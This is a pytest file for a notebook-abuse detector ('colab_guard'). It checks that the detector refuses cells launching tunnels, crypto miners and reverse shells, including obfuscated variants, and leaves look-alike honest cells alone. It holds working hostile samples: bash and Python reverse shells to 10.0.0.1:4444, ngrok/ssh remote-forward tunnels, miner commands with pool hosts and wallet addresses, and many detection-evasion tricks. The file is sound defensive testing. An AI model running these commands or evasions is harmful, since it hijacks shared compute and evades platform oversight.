"""A second round of an abuser who has read the code (and of honest cells that look alike):
each evasion that once slipped through the cell check is kept here, and so is each honest
cell it must leave alone."""

from __future__ import annotations

import pytest

from colab_guard.detect.cells import CellProcess
from colab_guard.detect.engine import Engine
from colab_guard.detect.signatures import load_signatures
from colab_guard.observe.model import Snapshot

RULES = load_signatures()


def run_cells(cells):
    engine = Engine(RULES)
    found = []
    for cell in cells:
        found = engine.evaluate(Snapshot("k", 1.0, [CellProcess(pid=7, is_kernel=True, cell=cell)]))
    return found


REFUSED = [
    ("__builtins__.__import__", ["__builtins__.__import__('os').system('ngrok tcp 22')"]),
    ("getattr of __builtins__", ["getattr(__builtins__, '__import__')('os').system('ngrok tcp 22')"]),
    ("builtins module", ["import builtins\nbuiltins.__import__('subprocess').run(['ngrok', 'tcp', '22'])"]),
    ("sys.modules", ["import sys\nsys.modules['os'].system('ngrok tcp 22')"]),
    ("os.__dict__", ["import os\nos.__dict__['system']('ngrok tcp 22')"]),
    ("vars(os)", ["import os\nvars(os)['sys' + 'tem']('ngrok tcp 22')"]),
    ("ctypes CDLL(None)", ["import ctypes\nctypes.CDLL(None).system(b'./xmrig -o pool:3333')"]),
    ("ctypes libc handle", ["import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'ngrok tcp 22')"]),
    ("ctypes cdll.LoadLibrary", ["from ctypes import cdll\ncdll.LoadLibrary('libc.so.6').system(b'ngrok tcp 22')"]),
    ("multiprocessing target", ["import multiprocessing, os\n"
                                "p = multiprocessing.Process(target=os.system, args=('ngrok tcp 22',))\np.start()"]),
    ("threading target", ["import threading, subprocess\n"
                          "threading.Thread(target=subprocess.run, args=(['ngrok', 'tcp', '22'],)).start()"]),
    ("executor submit", ["import os\nfrom concurrent.futures import ThreadPoolExecutor\n"
                         "ThreadPoolExecutor().submit(os.system, 'ngrok tcp 22')"]),
    ("map over commands", ["import os\nlist(map(os.system, ['ngrok tcp 22']))"]),
    ("functools.partial", ["import os, functools\nf = functools.partial(os.system, 'ngrok tcp 22')\nf()"]),
    ("shutil.which", ["import shutil, subprocess\nsubprocess.run([shutil.which('ngrok'), 'tcp', '22'])"]),
    ("IPython.utils.process.system", ["from IPython.utils.process import system\nsystem('ngrok tcp 22')"]),
    ("IPython.utils.process module", ["from IPython.utils import process\nprocess.getoutput('ngrok tcp 22')"]),
    ("pexpect.spawn", ["import pexpect\nchild = pexpect.spawn('ngrok tcp 22')"]),
    ("sh library", ["import sh\nsh.ngrok('tcp', '22', _bg=True)"]),
    ("open().write then bash", ["open('r.sh', 'w').write('./xmrig -o pool:3333\\n')", "!bash r.sh"]),
    ("with open write then run", ["with open('r.sh', 'w') as f:\n    f.write('ngrok tcp 22\\n')",
                                  "!chmod +x r.sh && ./r.sh"]),
    ("Path.write_text then python", ["from pathlib import Path\n"
                                     "Path('go.py').write_text(\"import os; os.system('ngrok tcp 22')\")",
                                     "!python go.py"]),
    ("os.environ then $T", ["import os\nos.environ['T'] = 'ngrok'", "!$T tcp 22"]),
    ("%env then $T", ["%env T=xmrig", "!./$T -o pool:3333"]),
    ("os.environ in the same cell", ["import os\nos.environ['T'] = 'ngrok'\nos.system('$T tcp 22')"]),
    ("starred arguments", ["import os\nos.system(*['ngrok tcp 22'])"]),
    ("starred list of a variable", ["import os\nargs = ['ngrok tcp 22']\nos.system(*args)"]),
    ("keyword dictionary", ["import subprocess\nsubprocess.run(**{'args': 'ngrok tcp 22', 'shell': True})"]),
    ("source of a written script", ["%%writefile a.sh\n./xmrig -o p:3333\n", "!source a.sh"]),
    (". of a written script", ["%%writefile a.sh\n./xmrig -o p:3333\n", "!. ./a.sh"]),
    ("sh < a written script", ["%%writefile a.sh\n./xmrig -o p:3333\n", "!sh < a.sh"]),
    ("cat of a written script into bash", ["%%writefile a.sh\n./xmrig -o p:3333\n", "!cat a.sh | bash"]),
    ("bash -x of a written script", ["%%writefile a.sh\n./xmrig -o p:3333\n", "!bash -x a.sh"]),
    ("exec of a written file", ["%%writefile m.py\nimport os\nos.system('ngrok tcp 22')\n",
                                "exec(open('m.py').read())"]),
    ("ANSI-C quoting", ["!$'\\x78mrig' -o p:3333"]),
    ("%alias", ["%alias m ./xmrig -o p:3333\n%m"]),
    ("method names assembled by a helper", [
        "import json, socket\ndef _method(*parts):\n    return '.'.join(''.join(p) for p in parts)\n"
        "def run(host, port):\n    s = socket.create_connection((host, port))\n    pre = ['mi', 'ning']\n"
        "    s.sendall(json.dumps({'method': _method(pre, ['sub', 'scribe'])}).encode())"]),
    ("a closure returned by a function", ["import subprocess\ndef mk():\n"
                                          "    def inner(c): subprocess.run(c, shell=True)\n"
                                          "    return inner\nmk()('ngrok tcp 22')"]),
    ("a class attribute", ["import os\nclass K:\n    c = 'ngrok tcp 22'\nos.system(K.c)"]),
    ("list append", ["import subprocess\nargs = []\nargs.append('ngrok')\nargs.extend(['tcp', '22'])\n"
                     "subprocess.run(args)"]),
    ("dict lookup", ["import subprocess\nT = {'a': 'ngrok'}\nsubprocess.run([T['a'], 'tcp', '22'])"]),
    ("lambda", ["import os\nf = lambda c: os.system(c)\nf('ngrok tcp 22')"]),
    ("a method that runs its argument", ["import os\nclass R:\n    def go(self, c):\n        os.system(c)\n"
                                         "R().go('ngrok tcp 22')"]),
    ("for loop over names", ["import os\nfor t in ['ngrok']:\n    os.system(t + ' tcp 22')"]),
    ("zlib", ["import os, zlib, base64\nos.system(zlib.decompress(base64.b64decode("
              "'eJzLSy/Kz1YoSS5QMDICAB2RBA0=')).decode())"]),
    ("ssh -R behind sshpass", ["!sshpass -p pw ssh -o StrictHostKeyChecking=no -R 2222:localhost:22 me@vps"]),
    ("ssh -o RemoteForward", ["!ssh -o 'RemoteForward 2222 localhost:22' me@vps"]),
    ("sshd as a service", ["!service ssh start"]),
    ("sshd through systemctl", ["!systemctl start ssh"]),
    ("sshd through init.d", ["!/etc/init.d/ssh start"]),
    ("tor as a service", ["!sudo service tor start"]),
    ("pyngrok's command line", ["!python -m pyngrok http 8888"]),
    ("bash reverse shell", ["!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]),
    ("python reverse shell", ["import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
                              "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])"]),
    ("torrentp", ["from torrentp import TorrentDownloader\n"
                  "TorrentDownloader('magnet:?xt=urn:btih:" + "a" * 40 + "', '.').start_download()"]),
    ("a shell's here-document", ["%%bash\nbash <<EOF\nngrok tcp 22\nEOF"]),
    ("python's here-document", ["%%bash\npython3 - <<'EOF'\nimport os\nos.system('ngrok tcp 22')\nEOF"]),
    ("IPython run_cell", ["get_ipython().run_cell('!ngrok tcp 22')"]),
    ("IPython ex", ["get_ipython().ex(\"import os; os.system('ngrok tcp 22')\")"]),
    ("IPython magic()", ["get_ipython().magic('sx ngrok tcp 22')"]),
    ("safe_execfile of a written file", ["%%writefile m.py\nimport os\nos.system('ngrok tcp 22')\n",
                                         "get_ipython().safe_execfile('m.py', {})"]),
    ("import of a written module", ["%%writefile m.py\nimport os\nos.system('ngrok tcp 22')\n", "import m"]),
    ("importlib of a written module", ["%%writefile m.py\nimport os\nos.system('ngrok tcp 22')\n",
                                       "import importlib\nimportlib.import_module('m')"]),
    ("a command read from a written file", ["open('cmd.txt', 'w').write('ngrok tcp 22')",
                                            "import subprocess\nsubprocess.run(open('cmd.txt').read(), shell=True)"]),
    ("Popen's executable", ["import subprocess\nsubprocess.run(['kworker', 'tcp', '22'], executable='./ngrok')"]),
    ("bash -c with $0", ["!bash -c '$0 tcp 22' ngrok"]),
    ("env -S", ["!env -S 'ngrok tcp 22'"]),
    ("list comprehension", ["import os\n[os.system(c) for c in ['ngrok tcp 22']]"]),
    ("walrus", ["import os\nif (c := 'ngrok tcp 22'):\n    os.system(c)"]),
    ("tuple unpacking", ["import os\na, b = 'ngrok', 'tcp 22'\nos.system(a + ' ' + b)"]),
    ("annotated assignment", ["import os\nc: str = 'ngrok tcp 22'\nos.system(c)"]),
    ("a runner defined below its caller", ["import subprocess\ndef a(x):\n    b(x)\ndef b(y):\n"
                                           "    subprocess.run(y, shell=True)\na('ngrok tcp 22')"]),
    ("a script written by a here-document", ["%%bash\ncat > x.sh <<EOF\n./xmrig -o p:3333\nEOF", "!bash x.sh"]),
    ("a here-document script run in the same cell", ["%%bash\ncat <<'EOF' > x.sh\nngrok tcp 22\nEOF\nbash x.sh"]),
    ("a python file written through tee", ["%%bash\ntee x.py <<EOF\nimport os\nos.system('ngrok tcp 22')\nEOF",
                                           "!python x.py"]),
    ("renamed miner, donate level", ["!./kworker -o 10.0.0.9:3333 --donate-level 1 -B"]),
    ("renamed miner, wallet login", ["!./kworker -o gulf.moneroocean.stream:10128 -u "
                                     "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x"]),
    ("renamed GPU miner, wallet", ["!./lm --algo ETCHASH --pool etc.2miners.com:1010 --user "
                                   "0x52908400098527886E0F7030069857D2E4169EE7.rig1"]),
]


WARNED = [
    ("tor installed", "!sudo apt-get install -y tor"),
    ("v2ray and shadowsocks installed", "!apt install -y v2ray shadowsocks-libev"),
    ("pproxy installed", "!pip install pproxy"),
    ("ngrok through npm i", "!npm i -g ngrok"),
    ("tailscale's installer", "!curl -fsSL https://tailscale.com/install.sh | sh"),
    ("zerotier's installer", "!curl -s https://install.zerotier.com | sudo bash"),
    ("sshx's installer", "!curl -sSf https://sshx.io/get | sh -s run"),
]


@pytest.mark.parametrize("what, cell", WARNED, ids=[w[0] for w in WARNED])
def test_acquisitions_are_warned(what, cell):
    assert {d.signature.action for d in run_cells([cell])} == {"warn"}


@pytest.mark.parametrize("what, cells", REFUSED, ids=[r[0] for r in REFUSED])
def test_evasions_are_refused(what, cells):
    found = run_cells(cells)
    actions = {d.signature.action or "category" for d in found}
    assert found and actions - {"warn", "record"}, [d.signature.id for d in found]


SHELL_READ = [
    # fixed: what the shell expands is expanded by the cell check too (detect/commands.py)
    ("a substring expansion", ["%%bash\nV=xmrigXX\n./${V:0:5} -o p:3333"]),
    ("a substring from the end", ["%%bash\nV=XXxmrig\n./${V: -5} -o p:3333"]),
    ("a text replaced", ["%%bash\nV=xmXXrig\n./${V/XX/} -o p:3333"]),
    ("a suffix removed", ["%%bash\nV=xmrig.txt\n./${V%.txt} -o p:3333"]),
    ("a default value", ["!./${NOTSET:-xmrig} -o p:3333"]),
    ("printf with several arguments", ["!eval $(printf '%s' './xmr' 'ig -o p:3333')"]),
    ("printf with two conversions", ["!$(printf '%s%s' ngr ok) tcp 22"]),
    ("IFS splitting", ["!IFS=,; c='ngrok,tcp,22'; $c"]),
    ("a variable's words split", ["%%bash\nc='ngrok tcp 22'\n$c"]),
    ("brace expansion", ["!{ngrok,tcp,22}"]),
    ("brace expansion in a word", ["!./xm{r,}ig -o p:3333"]),
    ("an ssh config file that forwards", ["%%writefile cfg\nHost x\n  RemoteForward 2222 localhost:22\n",
                                          "!ssh -F cfg x"]),
    ("an ssh config's forward for every host", ["%%writefile cfg\nRemoteForward 2222 localhost:22\n",
                                                 "!ssh -Fcfg me@x"]),
    ("a pickle that calls os.system", ["import pickle\npickle.loads(b\"cos\\nsystem\\n(S'ngrok tcp 22'\\ntR.\")"]),
    ("a protocol 4 pickle that calls posix.system",
     ["import pickle\npickle.loads(b\"\\x80\\x04\\x95'\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x05posix\\x94"
      "\\x8c\\x06system\\x94\\x93\\x94\\x8c\\x0cngrok tcp 22\\x94\\x85\\x94R\\x94.\")"]),
]


@pytest.mark.parametrize("what, cells", SHELL_READ, ids=[g[0] for g in SHELL_READ])
def test_what_the_shell_or_a_pickle_expands_is_refused(what, cells):
    found = run_cells(cells)
    assert found and {d.signature.action or "category" for d in found} - {"warn", "record"}


@pytest.fixture
def kernel_folder(tmp_path):
    """A process standing in for the kernel, in a folder of its own: the channel gives the cell
    check ``/proc/PID/cwd`` as the kernel's folder."""
    import subprocess

    (tmp_path / "bin").mkdir()
    for name in ("xmrig", "train.sh", "bin/ngrok", ".xmrig-hidden"):
        (tmp_path / name).write_text("")
    proc = subprocess.Popen(["sleep", "60"], cwd=tmp_path)
    yield f"/proc/{proc.pid}/cwd"
    proc.kill()
    proc.wait()


def run_cells_in(folder, cells):
    engine = Engine(RULES)
    engine.cell_memory("k").folder = folder
    found = []
    for cell in cells:
        found = engine.evaluate(Snapshot("k", 1.0, [CellProcess(pid=7, is_kernel=True, cell=cell)]))
    return found


GLOBS = [
    ("a glob that only the shell resolves", ["!./xm?ig -o p:3333"]),
    ("a glob with a star", ["!./x*g -o p:3333"]),
    ("a glob in a folder below", ["!./bin/ng[r]ok tcp 22"]),
    ("a glob after a cd in the cell", ["%cd bin\n!./n*k tcp 22"]),
    ("a glob after cd in the shell line", ["!cd bin && ./n?rok tcp 22"]),
]


@pytest.mark.parametrize("what, cells", GLOBS, ids=[g[0] for g in GLOBS])
def test_a_glob_is_resolved_against_the_kernels_folder(kernel_folder, what, cells):
    """Was a gap: ``./xm?ig`` is only resolved by the shell (fixed: against the kernel's
    folder on disk, /proc/PID/cwd, as the shell would)."""
    found = run_cells_in(kernel_folder, cells)
    assert found and {d.signature.action or "category" for d in found} - {"warn", "record"}


@pytest.mark.parametrize("cell", [
    "!./tr?in.sh --epochs 3",  # an honest script matched
    "!./xm?ig-missing -o p:3333",  # nothing matches: left as written, as bash does
    "!./.xm*",  # a dot file a pattern does not start with is not matched
    "!echo ./xm?ig",  # a glob in an argument of a program that only prints
], ids=["honest match", "no match", "dot file", "an argument"])
def test_globs_that_match_no_tool_are_left_alone(kernel_folder, cell):
    assert [(d.signature.id, d.reasons[:1]) for d in run_cells_in(kernel_folder, [cell])] == []


GAPS = [
    # without the kernel's folder (a check with no kernel process to read) a glob stays as
    # written: the sampler sees the program that starts
    ("a glob with no folder known", ["!./xm?ig -o p:3333"]),
]


@pytest.mark.xfail(strict=True, reason="a glob with no kernel folder to match it against is "
                   "left as written, as bash leaves a glob that matches nothing (guessing a "
                   "tool's name from a pattern is words, not what runs): the sampler sees what "
                   "starts")
@pytest.mark.parametrize("what, cells", GAPS, ids=[g[0] for g in GAPS])
def test_known_gaps(what, cells):
    found = run_cells(cells)
    assert found and {d.signature.action or "category" for d in found} - {"warn", "record"}


HONEST_EXPANDED = [
    ("braces in quotes and awk", ["!echo '{ngrok,tcp,22}' && awk '{print $1}' data.txt"]),
    ("braces over honest files", ["!cp data/{train,test}.csv /tmp/ && mkdir -p out/{logs,ckpt}"]),
    ("a substring and a default", ["%%bash\nNAME=experiment01\necho ${NAME:0:10}\n"
                                   "python train.py --epochs ${EPOCHS:-10} --name ${NAME%01}"]),
    ("printf of a list", ["!printf '%s\\n' ngrok xmrig t-rex > blocklist.txt"]),
    ("IFS for a CSV line", ["!IFS=,; line='ngrok,tcp,22'; echo $line"]),
    ("an ssh config with a local forward", ["%%writefile cfg\nHost x\n  User me\n  LocalForward 5432 db:5432\n",
                                            "!ssh -F cfg x"]),
    ("an ssh config forwarding for another host", ["%%writefile cfg\nHost other\n  RemoteForward 2222 localhost:22\n"
                                                   "Host x\n  User me\n", "!ssh -F cfg x"]),
    ("a pickle of data naming a tool", ["import pickle\nd = pickle.loads(b'\\x80\\x04\\x95\\x10\\x00\\x00\\x00\\x00"
                                        "\\x00\\x00\\x00\\x8c\\x0cngrok tcp 22\\x94.')\nprint(d)"]),
]


@pytest.mark.parametrize("what, cells", HONEST_EXPANDED, ids=[h[0] for h in HONEST_EXPANDED])
def test_honest_expansions_are_left_alone(what, cells):
    assert [(d.signature.id, d.reasons[:1]) for d in run_cells(cells)] == []


HONEST = [
    ("tool words as variable names", "miner = DataMiner()\ntorrent_df = pd.read_csv('torrents.csv')\nhashcat_results = {}"),
    ("tool words in a path", "df = pd.read_csv('/content/drive/MyDrive/xmrig_logs/ngrok.csv')"),
    ("a classifier given a miner sample", "!python classify.py --input samples/xmrig.bin --label miner"),
    ("pip of look-alike names", "!pip install minerl hashids mlxtend pm4py apyori"),
    ("face analysis", "from insightface.app import FaceAnalysis\napp = FaceAnalysis(name='buffalo_l')\n"
                      "app.prepare(ctx_id=0)\nfaces = app.get(img)"),
    ("pm4py inductive miner", "from pm4py.algo.discovery.inductive import algorithm as inductive_miner\n"
                              "tree = inductive_miner.apply(log)"),
    ("stable-diffusion-webui", "!git clone https://github.com/AUTOMATIC1111/stable-diffusion-webui\n"
                               "%cd stable-diffusion-webui\n!python launch.py --xformers"),
    ("hydra config override", "!python train.py --config-name=hydra_cfg hydra.run.dir=out"),
    ("medusa LLM decoding", "!python -m medusa.inference.cli --model FasterDecoding/medusa-vicuna-7b-v1.3"),
    ("ssh -R in a remote command's arguments", "!ssh me@host 'ls -R /data'"),
    ("a helper script written, then run", "open('prep.sh', 'w').write('python prep.py --out data/\\n')\n"
                                          "import subprocess\nsubprocess.run(['bash', 'prep.sh'])"),
    ("a thread running a training function", "import threading\n"
                                             "threading.Thread(target=train, args=('xmrig-logs.csv',)).start()"),
    ("os.environ for a library", "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n!echo $CUDA_VISIBLE_DEVICES"),
    ("a benchmark of hashing algorithms", "!python bench.py --algo kawpow --iterations 100"),
    ("a wallet address analysed", "!python audit.py --address 0x52908400098527886E0F7030069857D2E4169EE7"),
    ("service status and a database started", "!service ssh status\n!service postgresql start"),
    ("ssh with a local forward option", "!ssh -o 'LocalForward 5432 db:5432' me@bastion"),
    ("a port check through /dev/tcp", "%%bash\ntimeout 1 bash -c '</dev/tcp/127.0.0.1/8888' && echo up"),
    ("a socket and a log redirected", "import os, socket\ns = socket.socket()\ns.connect(('127.0.0.1', 8888))\n"
                                      "os.dup2(log.fileno(), 2)"),
    ("tor's GeoIP data installed", "!apt-get install -y tor-geoip"),
    ("pip from another index", "!pip install -i https://pypi.example.org/simple torch"),
    ("a detector's list of miner names joined", "MINERS = ['xmrig', 'ethminer', 't-rex']\n"
                                                "print('Blocked: ' + ', '.join(MINERS))"),
    ("a miner's name in a formatted report", "print('{} processes named {}'.format(3, 'xmrig'))"),
    ("a miner's name lower-cased", "name = 'XMRIG'.lower()\nprint(name in procs)"),
    ("a sniffer looking for Stratum", "import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n"
                                      "pkt, _ = s.recvfrom(65535)\nfound = b'mining.subscribe' in pkt"),
    ("a here-document written to a file", "%%bash\ncat <<EOF > notes.txt\nngrok http 8888\nEOF"),
    ("a here-document in a ! line cell", "!cat <<EOF > notes.txt\n!echo done"),
    ("a comprehension over file names", "import os\n[os.remove(f) for f in ['a.tmp', 'b.tmp']]"),
    ("importing one's own helper module", "%%writefile helpers.py\nimport os\ndef size(p):\n    return os.path.getsize(p)\n"),
    ("a loop over file names", "import os\nfor f in ['a.csv', 'b.csv']:\n    os.system('gzip ' + f)"),
    ("a config dictionary", "cfg = {'model': 'xmrig-detector', 'lr': 0.01}\nprint(cfg['model'])"),
    ("bash reading stdin from a data file", "!bash -s < params.txt"),
    ("cat a file into a pager", "!cat notes.md | less"),
    ("ctypes for a math library", "import ctypes\nlib = ctypes.CDLL('./libfast.so')\nlib.solve(3)"),
    ("a sort key, an exit handler, a finalizer that run nothing",
     "import atexit, os, weakref, shutil\nfiles = sorted(['b.csv', 'a.csv'], key=os.path.getsize)\n"
     "atexit.register(shutil.rmtree, '/tmp/scratch')\nweakref.finalize(model, print, 'freed')"),
    ("text cleaned with translate and a Template report",
     "import string\nclean = raw.translate(str.maketrans('', '', string.punctuation))\n"
     "print(string.Template('$n rows from $src').substitute(n=3, src='ngrok-logs.csv'))"),
    ("a Perl one-off that prints", "%%perl\nprint \"ngrok tcp 22 seen in logs\\n\";"),
    ("node printing a command it does not run", "%%script node\nconsole.log('exec(\"ngrok tcp 22\")')"),
    ("a factory of a shell runner, run on ls", "import subprocess\ndef mk():\n"
     "    def inner(c): subprocess.run(c, shell=True)\n    return inner\nmk()('ls -la data/')"),
    ("a class of settings naming a tool", "class Cfg:\n    label = 'ngrok tcp 22'\n"
     "    path = 'logs/xmrig.csv'\nprint(Cfg.label, open(Cfg.path).read()[:10])"),
    ("a macro of harmless code", "get_ipython().define_macro('show', 'print(42)')"),
    ("a helper naming metrics, sent to a local collector",
     "import socket\ndef key(*parts):\n    return '.'.join(parts)\n"
     "s = socket.create_connection(('127.0.0.1', 8125))\n"
     "s.sendall(f\"{key('train', 'loss')}:0.3|g\".encode())"),
]


@pytest.mark.parametrize("what, cell", HONEST, ids=[h[0] for h in HONEST])
def test_honest_cells_are_left_alone(what, cell):
    assert [(d.signature.id, d.reasons[:1]) for d in run_cells([cell])] == []


# ---------------------------------------------------------------- Gradio's share link

GRADIO_FRPC = "/usr/local/lib/python3.11/dist-packages/gradio/frpc_linux_amd64_v0.3"


def _process_ids(process: dict) -> set[str]:
    from colab_guard.detect.engine import example_matches
    from colab_guard.observe.model import Process

    proc = Process.from_dict({"pid": 4242, **process})
    return {s.id for s in RULES.signatures.values() if not s.on_cells and example_matches(s, proc)}


def test_gradios_share_link_is_a_dashboard_warned_and_a_copied_frpc_is_a_tunnel():
    share = [GRADIO_FRPC, "http", "-n", "7f3a", "-l", "7860", "-i", "127.0.0.1", "--uc", "--sd", "random",
             "--ue", "--server_addr", "gradio.live:7000", "--disable_log_color"]
    sockets = [{"remote_ip": "34.1.1.1", "remote_port": 7000, "status": "ESTABLISHED"}]
    found = _process_ids({"name": "frpc_linux_amd6", "exe": GRADIO_FRPC, "cmdline": share, "sockets": sockets})
    assert found == {"proxy-gradio-share"}
    assert RULES.signatures["proxy-gradio-share"].action == "warn"
    copied = ["/tmp/frpc_linux_amd64_v0.3", *share[1:]]
    assert "proxy-known-tool" in _process_ids({"name": "frpc_linux_amd6", "exe": copied[0], "cmdline": copied})
    own_server = [GRADIO_FRPC, "tcp", "-l", "22", "--server_addr", "vps.example.org:7000"]
    assert "proxy-known-tool" in _process_ids({"name": "frpc_linux_amd6", "exe": GRADIO_FRPC,
                                               "cmdline": own_server})
    # the cell that asks for the link starts nothing the cell check can see: only the sampler acts
    assert run_cells(["import gradio as gr\ngr.Interface(fn=f, inputs='text', outputs='text')"
                      ".launch(share=True)"]) == []


@pytest.mark.parametrize("text", [
    "{" + "," * 16000, "a{" + ",b" * 8000, "${V:-" * 3000, "${V/" * 3000, "${V:1:" * 3000,
    "printf %s " + "a " * 8000,
], ids=["commas unclosed", "items unclosed", "defaults unclosed", "replacements unclosed",
        "substrings unclosed", "printf arguments"])
def test_the_shell_expansions_stay_linear_on_hostile_text(text):
    """A line built to make the new expansions' patterns backtrack (quadratic, 2 to 6 s here
    before their parts were made unambiguous and bounded) is read in a fraction of that."""
    import time

    from colab_guard.detect import commands

    started = time.process_time()
    commands.split_shell(text)
    assert time.process_time() - started < 1.5
